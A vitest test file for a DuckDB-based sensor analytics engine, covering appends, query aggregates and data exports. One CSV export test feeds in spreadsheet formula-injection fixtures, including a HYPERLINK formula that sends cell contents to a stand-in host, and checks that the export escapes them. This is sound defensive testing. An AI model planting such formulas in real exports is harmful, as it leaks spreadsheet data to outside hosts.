import { DuckDBInstance } from '@duckdb/node-api';
import { readdir, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buffer as readAll } from 'node:stream/consumers';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { AnalyticsEngine, type MeasurementRow } from '../../src/analytics/engine.js';
import { partitionOf } from '../../src/analytics/partitions.js';
import { countMeasurements } from '../../src/analytics/queries.js';
import { BASE_TS, expectedAggregate, generateRows, iso } from '../helpers/measurements.js';
import { openTempAnalytics, type TempAnalytics } from '../helpers/temp-analytics.js';

const close = (a: number | null, b: number | null) => {
  if (a === null || b === null) return expect(a).toBe(b);
  return expect(Math.abs(a - b)).toBeLessThanOrEqual(1e-9 * Math.max(1, Math.abs(b)));
};

describe('analytics engine: appendBatch and the high-water mark', () => {
  let t: TempAnalytics;
  beforeEach(async () => {
    t = await openTempAnalytics();
  });
  afterEach(() => t.cleanup());

  it('starts with a high-water mark of 0 and no measurements', async () => {
    expect(await t.engine.highWaterMark()).toBe(0);
    expect(await countMeasurements(t.engine)).toBe(0);
  });

  it('stores every row of a batch together with its high-water mark', async () => {
    const rows = generateRows({ count: 1000 });
    await t.engine.appendBatch(rows, 250);
    expect(await countMeasurements(t.engine)).toBe(1000);
    expect(await t.engine.highWaterMark()).toBe(250);
    await t.engine.appendBatch(generateRows({ count: 10, firstBufferId: 251 }), 253);
    expect(await countMeasurements(t.engine)).toBe(1010);
    expect(await t.engine.highWaterMark()).toBe(253);
  });

  it('records the high-water mark of a batch with no rows', async () => {
    await t.engine.appendBatch([], 7);
    expect(await t.engine.highWaterMark()).toBe(7);
  });

  it('leaves neither rows nor high-water mark when a row of the batch is bad, and keeps working', async () => {
    await t.engine.appendBatch(generateRows({ count: 100 }), 25);
    // Bad at the end of a batch long enough for the appender to have flushed chunks already.
    const bad = generateRows({ count: 300_000, firstBufferId: 26 });
    bad[299_999] = { ...bad[299_999]!, metric: null as unknown as string };
    await expect(t.engine.appendBatch(bad, 150)).rejects.toThrow();
    expect(await countMeasurements(t.engine)).toBe(100);
    // A value DuckDB itself refuses (out of SMALLINT range) in the middle of a batch.
    const outOfRange = generateRows({ count: 5000, firstBufferId: 26 });
    outOfRange[2500] = { ...outOfRange[2500]!, model_id: 70_000 };
    await expect(t.engine.appendBatch(outOfRange, 150)).rejects.toThrow();
    expect(await countMeasurements(t.engine)).toBe(100);
    expect(await t.engine.highWaterMark()).toBe(25);

    await t.engine.appendBatch(generateRows({ count: 500, firstBufferId: 26 }), 150);
    expect(await countMeasurements(t.engine)).toBe(600);
    expect(await t.engine.highWaterMark()).toBe(150);
  });

  it('refuses a high-water mark that is not a non-negative integer', async () => {
    await expect(t.engine.appendBatch([], -1)).rejects.toThrow(/high-water/);
    await expect(t.engine.appendBatch([], 1.5)).rejects.toThrow(/high-water/);
  });

  it('reads the high-water mark it wrote, in the same process, after reading it before the first append', async () => {
    expect(await t.engine.highWaterMark()).toBe(0);
    await t.engine.appendBatch(generateRows({ count: 10 }), 3);
    expect(await t.engine.highWaterMark()).toBe(3);
    await t.engine.appendBatch(generateRows({ count: 10, firstBufferId: 4 }), 9);
    expect(await t.engine.highWaterMark()).toBe(9);
  });

  it('answers right about rows that arrived after it was first asked while empty', async () => {
    expect((await t.engine.sensors()).count).toBe(0);
    expect((await t.engine.sensorStats('sensor-a')).count).toBe(0);
    const rows = generateRows({ count: 400, sensors: ['sensor-a', 'sensor-b', 'sensor-c', 'sensor-d'] });
    await t.engine.appendBatch(rows, 5);
    const list = await t.engine.sensors();
    expect(list.sensors.map((s) => s.sensor_id)).toEqual(['sensor-a', 'sensor-b', 'sensor-c', 'sensor-d']);
    expect(list.sensors.map((s) => s.count)).toEqual([100, 100, 100, 100]);
    expect((await t.engine.sensorStats('sensor-a')).count).toBe(100);
  });

  it('keeps rows and high-water mark across a close and reopen', async () => {
    await t.engine.appendBatch(generateRows({ count: 300 }), 75);
    await t.engine.close();
    const reopened = await AnalyticsEngine.open({ path: t.path, memoryLimit: '256MB', threads: 1 });
    try {
      expect(await reopened.highWaterMark()).toBe(75);
      expect(await countMeasurements(reopened)).toBe(300);
    } finally {
      await reopened.close();
    }
  });

  it('never shows a reader part of a batch that is being appended', async () => {
    const rows = generateRows({ count: 200_000 });
    const append = t.engine.appendBatch(rows, 50_000);
    const seen = new Set<number>();
    let done = false;
    void append.finally(() => (done = true));
    while (!done) seen.add(await countMeasurements(t.engine));
    await append;
    seen.add(await countMeasurements(t.engine));
    expect([...seen].every((n) => n === 0 || n === 200_000)).toBe(true);
    expect(seen.has(200_000)).toBe(true);
  });

  it('refuses to open a file written with another partition count', async () => {
    await t.engine.close();
    const instance = await DuckDBInstance.create(t.path);
    const c = await instance.connect();
    await c.run(`UPDATE analytics_meta SET value = '4' WHERE key = 'partitions'`);
    c.closeSync();
    instance.closeSync();
    await expect(AnalyticsEngine.open({ path: t.path, memoryLimit: '256MB', threads: 1 })).rejects.toThrow(/partitions/);
  });

  it('spreads sensors over the partitions and reads each back from its own', async () => {
    const sensors = Array.from({ length: 64 }, (_, i) => `sensor-${i}`);
    const rows = generateRows({ count: 6400, sensors });
    await t.engine.appendBatch(rows, 1600);
    const used = new Set(sensors.map(partitionOf));
    expect(used.size).toBeGreaterThanOrEqual(12);
    for (const id of sensors.slice(0, 8)) {
      expect((await t.engine.sensorStats(id)).count).toBe(100);
    }
    expect(await countMeasurements(t.engine)).toBe(6400);
    expect((await t.engine.compare(sensors.slice(0, 40))).sensors.every((s) => s.count === 100)).toBe(true);
  });

  it('can be closed twice and refuses work once closed', async () => {
    await t.engine.close();
    await t.engine.close();
    await expect(t.engine.appendBatch([], 1)).rejects.toThrow(/closed/);
    await expect(t.engine.ping()).rejects.toThrow(/closed/);
  });

  it('reports its file size and answers ping', async () => {
    await t.engine.appendBatch(generateRows({ count: 100 }), 1);
    await t.engine.ping();
    expect(t.engine.sizeBytes()).toBeGreaterThan(0);
  });
});

describe('analytics engine: queries give the values computed from the rows', () => {
  let t: TempAnalytics;
  let rows: MeasurementRow[];
  beforeEach(async () => {
    t = await openTempAnalytics();
    rows = generateRows({ count: 6000, sensors: ['s-1', 's-2', 's-3'], seed: 7 });
    // A sensor with a single reading: stddev is null, not 0 or NaN.
    rows.push({ ...rows[0]!, sensor_id: 'lonely', buffer_id: 9999 });
    await t.engine.appendBatch(rows, 9999);
  });
  afterEach(() => t.cleanup());

  const of = (pred: (r: MeasurementRow) => boolean) => rows.filter(pred);

  it('stats: count, avg, min, max, stddev, first and last reading, overall and per metric', async () => {
    const stats = await t.engine.sensorStats('s-2');
    const all = expectedAggregate(of((r) => r.sensor_id === 's-2'));
    expect(stats.sensor_id).toBe('s-2');
    expect(stats.count).toBe(all.count);
    close(stats.avg_value, all.avg);
    expect(stats.min_value).toBe(all.min);
    expect(stats.max_value).toBe(all.max);
    close(stats.stddev_value, all.stddev);
    expect(stats.first_reading).toBe(iso(all.first!));
    expect(stats.last_reading).toBe(iso(all.last!));
    expect(stats.metrics.map((m) => m.metric)).toEqual(['humidity', 'temperature']);
    for (const m of stats.metrics) {
      const e = expectedAggregate(of((r) => r.sensor_id === 's-2' && r.metric === m.metric));
      expect(m.count).toBe(e.count);
      close(m.avg_value, e.avg);
      expect(m.min_value).toBe(e.min);
      expect(m.max_value).toBe(e.max);
      close(m.stddev_value, e.stddev);
      expect(m.unit).toBe(m.metric === 'humidity' ? '%' : 'C');
    }
  });

  it('stats: metric and time range filters, bounds inclusive', async () => {
    const start = rows[600]!.ts;
    const end = rows[3000]!.ts;
    const stats = await t.engine.sensorStats('s-1', { metric: 'temperature', start, end });
    const e = expectedAggregate(of((r) => r.sensor_id === 's-1' && r.metric === 'temperature' && r.ts >= start && r.ts <= end));
    expect(e.count).toBeGreaterThan(100);
    expect(stats.count).toBe(e.count);
    close(stats.avg_value, e.avg);
    close(stats.stddev_value, e.stddev);
    expect(stats.metrics).toHaveLength(1);
  });

  it('stats: an unknown sensor has count 0 and nulls; one reading has a null stddev', async () => {
    expect(await t.engine.sensorStats('nope')).toEqual({
      sensor_id: 'nope',
      count: 0,
      avg_value: null,
      min_value: null,
      max_value: null,
      stddev_value: null,
      first_reading: null,
      last_reading: null,
      metrics: [],
    });
    const lonely = await t.engine.sensorStats('lonely');
    expect(lonely.count).toBe(1);
    expect(lonely.stddev_value).toBeNull();
    expect(lonely.avg_value).toBe(rows[0]!.value);
  });

  it('timeseries: buckets aligned on the epoch, every value pooled in data and per metric in by_metric', async () => {
    const start = BASE_TS;
    const end = BASE_TS + 86400;
    const series = await t.engine.timeseries('s-3', { interval: '1h', start, end });
    const perMetric = new Map<string, MeasurementRow[]>();
    const pooled = new Map<string, MeasurementRow[]>();
    for (const r of of((r) => r.sensor_id === 's-3' && r.ts >= start && r.ts <= end)) {
      const bucket = new Date(Math.floor(r.ts / 3600) * 3600 * 1000).toISOString();
      perMetric.set(`${bucket} ${r.metric}`, [...(perMetric.get(`${bucket} ${r.metric}`) ?? []), r]);
      pooled.set(bucket, [...(pooled.get(bucket) ?? []), r]);
    }
    expect(series.interval).toBe('1h');
    expect(series.interval_seconds).toBe(3600);
    expect(series.by_metric.length).toBe(perMetric.size);
    for (const b of series.by_metric) {
      const e = expectedAggregate(perMetric.get(`${b.bucket} ${b.metric}`) ?? []);
      expect(b.count).toBe(e.count);
      close(b.avg_value, e.avg);
      expect(b.min_value).toBe(e.min);
      expect(b.max_value).toBe(e.max);
    }
    const sorted = [...series.by_metric].sort((a, b) => a.bucket.localeCompare(b.bucket) || a.metric.localeCompare(b.metric));
    expect(series.by_metric).toEqual(sorted);
    expect(series.data.map((b) => b.bucket)).toEqual([...pooled.keys()].sort());
    for (const b of series.data) {
      const e = expectedAggregate(pooled.get(b.bucket)!);
      expect(b.count).toBe(e.count);
      close(b.avg_value, e.avg);
      expect(b.min_value).toBe(e.min);
      expect(b.max_value).toBe(e.max);
    }
  });

  it('timeseries: takes interval words, and a metric narrows data to it', async () => {
    const words = await t.engine.timeseries('s-3', { interval: '1 hour', metric: 'humidity' });
    const short = await t.engine.timeseries('s-3', { interval: '60m', metric: 'humidity' });
    expect(words.interval).toBe('1 hour');
    expect(words.data).toEqual(short.data);
    expect(words.data).toEqual(words.by_metric.map(({ metric: _m, ...b }) => b));
  });

  it('anomalies: |z| above the threshold against the metric mean and sample stddev, newest first', async () => {
    const threshold = 2.5;
    const result = await t.engine.anomalies('s-1', { threshold, limit: 10_000 });
    const expected: Array<{ ts: number; metric: string; z: number }> = [];
    for (const metric of ['temperature', 'humidity']) {
      const group = of((r) => r.sensor_id === 's-1' && r.metric === metric);
      const e = expectedAggregate(group);
      for (const r of group) {
        const z = (r.value - e.avg!) / e.stddev!;
        if (Math.abs(z) > threshold) expected.push({ ts: r.ts, metric, z });
      }
    }
    expect(expected.length).toBeGreaterThan(0);
    expect(result.threshold).toBe(threshold);
    expect(result.anomalies).toHaveLength(expected.length);
    expect(result.count).toBe(expected.length);
    expected.sort((a, b) => b.ts - a.ts || a.metric.localeCompare(b.metric));
    result.anomalies.forEach((a, i) => {
      close(a.z_score, expected[i]!.z);
      expect(a.timestamp).toBe(iso(expected[i]!.ts));
      expect(a.metric).toBe(expected[i]!.metric);
    });
    const limited = await t.engine.anomalies('s-1', { threshold, limit: 3 });
    expect(limited.anomalies).toEqual(result.anomalies.slice(0, 3));
    expect(limited.count).toBe(3);
  });

  it('compare: each sensor in the order asked, unknown ones with count 0', async () => {
    const start = rows[1000]!.ts;
    const result = await t.engine.compare(['s-3', 'ghost', 's-1'], { start, metric: 'humidity' });
    expect(result.sensors.map((s) => s.sensor_id)).toEqual(['s-3', 'ghost', 's-1']);
    for (const s of result.sensors) {
      const e = expectedAggregate(of((r) => r.sensor_id === s.sensor_id && r.metric === 'humidity' && r.ts >= start));
      expect(s.count).toBe(e.count);
      close(s.avg_value, e.avg);
      expect(s.min_value).toBe(e.min);
      expect(s.max_value).toBe(e.max);
      close(s.stddev_value, e.stddev);
      const { sensor_id, ...agg } = s;
      expect(result.comparison[sensor_id]).toEqual(agg);
    }
    // comparison: descending avg_value, the sensor without data last.
    const order = Object.keys(result.comparison);
    expect(order[2]).toBe('ghost');
    const avgs = order.slice(0, 2).map((id) => result.comparison[id]!.avg_value!);
    expect(avgs).toEqual([...avgs].sort((a, b) => b - a));
  });

  it('compare: no sensors gives an empty comparison; 100 sensors in one scan', async () => {
    expect(await t.engine.compare([])).toEqual({ comparison: {}, sensors: [] });
    const many = Array.from({ length: 100 }, (_, i) => `s-${i}`);
    expect((await t.engine.compare(many)).sensors).toHaveLength(100);
  });

  it('sensors: every sensor with its count, metrics and readings, limited to the ids given', async () => {
    const list = await t.engine.sensors();
    expect(list.sensors.map((s) => s.sensor_id)).toEqual(['lonely', 's-1', 's-2', 's-3']);
    const s1 = list.sensors.find((s) => s.sensor_id === 's-1')!;
    const e = expectedAggregate(of((r) => r.sensor_id === 's-1'));
    expect(s1).toEqual({ sensor_id: 's-1', count: e.count, metrics: ['humidity', 'temperature'], first_reading: iso(e.first!), last_reading: iso(e.last!) });
    const scoped = await t.engine.sensors({ sensorIds: ['s-2', 'ghost'] });
    expect(scoped.sensors.map((s) => s.sensor_id)).toEqual(['s-2']);
    expect(await t.engine.sensors({ sensorIds: [] })).toEqual({ count: 0, sensors: [], next_after: null });
  });
});

describe('analytics engine: export', () => {
  let t: TempAnalytics;
  let rows: MeasurementRow[];
  beforeEach(async () => {
    t = await openTempAnalytics();
    rows = generateRows({ count: 3000, sensors: ['s-1', 's-2', 's-3'], seed: 3 });
    await t.engine.appendBatch(rows, 750);
  });
  afterEach(() => t.cleanup());

  const ourTempDirs = async () => (await readdir(tmpdir())).filter((n) => n.startsWith('ocean-export-'));

  it('parquet: the filtered rows, readable by read_parquet, ts as a UTC timestamp', async () => {
    const before = await ourTempDirs();
    const file = await t.engine.exportMeasurements({ format: 'parquet', sensorIds: ['s-1', 's-3'], metric: 'temperature' });
    expect(file.contentType).toBe('application/vnd.apache.parquet');
    expect(file.filename).toMatch(/^ocean-measurements-\d{8}T\d{6}Z\.parquet$/);
    const bytes = await readAll(file.stream);
    expect(bytes.subarray(0, 4).toString()).toBe('PAR1');
    // Streamed through a pipe: nothing is left in the temp directory once it is read.
    expect(await ourTempDirs()).toEqual(before);

    const path = join(t.dir, 'check.parquet');
    await writeFile(path, bytes);
    const instance = await DuckDBInstance.create(':memory:');
    const c = await instance.connect();
    try {
      const got = (
        await c.runAndReadAll(
          `SELECT sensor_id, count(*)::INTEGER AS n, sum(value) AS s, min(epoch(ts)) AS first FROM read_parquet('${path}') GROUP BY sensor_id ORDER BY sensor_id`,
        )
      ).getRowObjectsJS();
      const expected = ['s-1', 's-3'].map((id) => {
        const e = expectedAggregate(rows.filter((r) => r.sensor_id === id && r.metric === 'temperature'));
        return { sensor_id: id, n: e.count, s: e.sum, first: e.first };
      });
      expect(got.map((g) => g.sensor_id)).toEqual(['s-1', 's-3']);
      got.forEach((g, i) => {
        expect(g.n).toBe(expected[i]!.n);
        close(g.s as number, expected[i]!.s);
        close(g.first as number, expected[i]!.first);
      });
    } finally {
      c.closeSync();
      instance.closeSync();
    }
  });

  it('csv: a header and one line per filtered row, ISO timestamps', async () => {
    const start = rows[1500]!.ts;
    const file = await t.engine.exportMeasurements({ format: 'csv', sensorIds: ['s-2'], start });
    expect(file.contentType).toBe('text/csv; charset=utf-8');
    const lines = (await readAll(file.stream)).toString('utf8').trim().split('\n');
    expect(lines[0]).toBe('ts,sensor_id,metric,value,unit,lab_id,model_id,source');
    const expected = rows.filter((r) => r.sensor_id === 's-2' && r.ts >= start);
    expect(lines.length - 1).toBe(expected.length);
    const sum = lines.slice(1).reduce((acc, line) => acc + Number(line.split(',')[3]), 0);
    close(sum, expectedAggregate(expected).sum);
    expect(lines[1]!.split(',')[0]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$/);
  });

  it('json: one array of objects; ndjson: one object per line', async () => {
    const json = await t.engine.exportMeasurements({ format: 'json', sensorIds: ['s-1'], metric: 'humidity' });
    expect(json.contentType).toBe('application/json');
    const parsed = JSON.parse((await readAll(json.stream)).toString('utf8')) as Array<Record<string, unknown>>;
    const expected = rows.filter((r) => r.sensor_id === 's-1' && r.metric === 'humidity');
    expect(parsed).toHaveLength(expected.length);
    expect(parsed[0]).toMatchObject({ sensor_id: 's-1', metric: 'humidity', unit: '%', source: 'test' });
    expect(Date.parse(parsed[0]!.ts as string) / 1000).toBeCloseTo(expected[0]!.ts, 3);
    close(
      parsed.reduce((a, r) => a + (r.value as number), 0),
      expectedAggregate(expected).sum,
    );

    const nd = await t.engine.exportMeasurements({ format: 'ndjson' });
    expect(nd.contentType).toBe('application/x-ndjson');
    const lines = (await readAll(nd.stream)).toString('utf8').trim().split('\n');
    expect(lines).toHaveLength(rows.length);
    expect(() => lines.map((l) => JSON.parse(l) as unknown)).not.toThrow();
  });

  it('csv: a text cell a spreadsheet would run as a formula starts with a quote; numbers are untouched', async () => {
    const base = { buffer_id: 900, ts: rows[0]!.ts, lab_id: null, model_id: null, source: 'test' };
    await t.engine.appendBatch(
      [
        { ...base, sensor_id: '=evil', metric: '=HYPERLINK("http://x.example/?"&A1)', value: -5, unit: '+1', lab_id: '@lab' },
        { ...base, sensor_id: '=evil', metric: '-cmd', value: 1, unit: '\tx' },
        { ...base, sensor_id: '=evil', metric: 'plain=ok', value: 2, unit: 'a-b', source: '@src' },
      ],
      900,
    );
    const file = await t.engine.exportMeasurements({ format: 'csv', sensorIds: ['=evil'] });
    const lines = (await readAll(file.stream)).toString('utf8').trim().split('\n').slice(1).sort();
    expect(lines).toHaveLength(3);
    const cells = lines.map((l) => l.split(',').slice(1));
    expect(cells).toEqual([
      ["'=evil", `"'=HYPERLINK(""http://x.example/?""&A1)"`, '-5.0', "'+1", "'@lab", '', 'test'],
      ["'=evil", "'-cmd", '1.0', "'\tx", '', '', 'test'],
      ["'=evil", 'plain=ok', '2.0', 'a-b', '', '', "'@src"],
    ]);
  });

  it('gives a valid empty file when nothing matches', async () => {
    const json = await t.engine.exportMeasurements({ format: 'json', sensorIds: [] });
    expect(JSON.parse((await readAll(json.stream)).toString('utf8'))).toEqual([]);
    const csv = await t.engine.exportMeasurements({ format: 'csv', sensorIds: ['ghost'] });
    expect((await readAll(csv.stream)).toString('utf8').trim()).toBe('ts,sensor_id,metric,value,unit,lab_id,model_id,source');
  });
});
